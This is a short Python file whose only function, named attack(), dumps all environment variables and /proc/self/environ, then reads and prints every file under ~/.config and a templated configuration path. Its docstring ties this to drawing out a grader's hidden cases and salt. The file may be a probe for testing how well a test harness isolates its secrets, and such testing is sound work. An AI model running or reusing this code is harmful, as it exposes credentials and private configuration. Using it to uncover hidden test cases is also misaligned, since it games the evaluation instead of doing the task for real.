import os


def attack():
    """The salt decides which hidden cases are drawn."""
    print(dict(os.environ))
    with open("/proc/self/environ", "rb") as file:
        print(file.read())
    for path in ("@CONFIGURATION@", os.path.expanduser("~/.config")):
        for folder, _, names in os.walk(path):
            for name in names:
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        print(name, file.read())
                except OSError:
                    pass
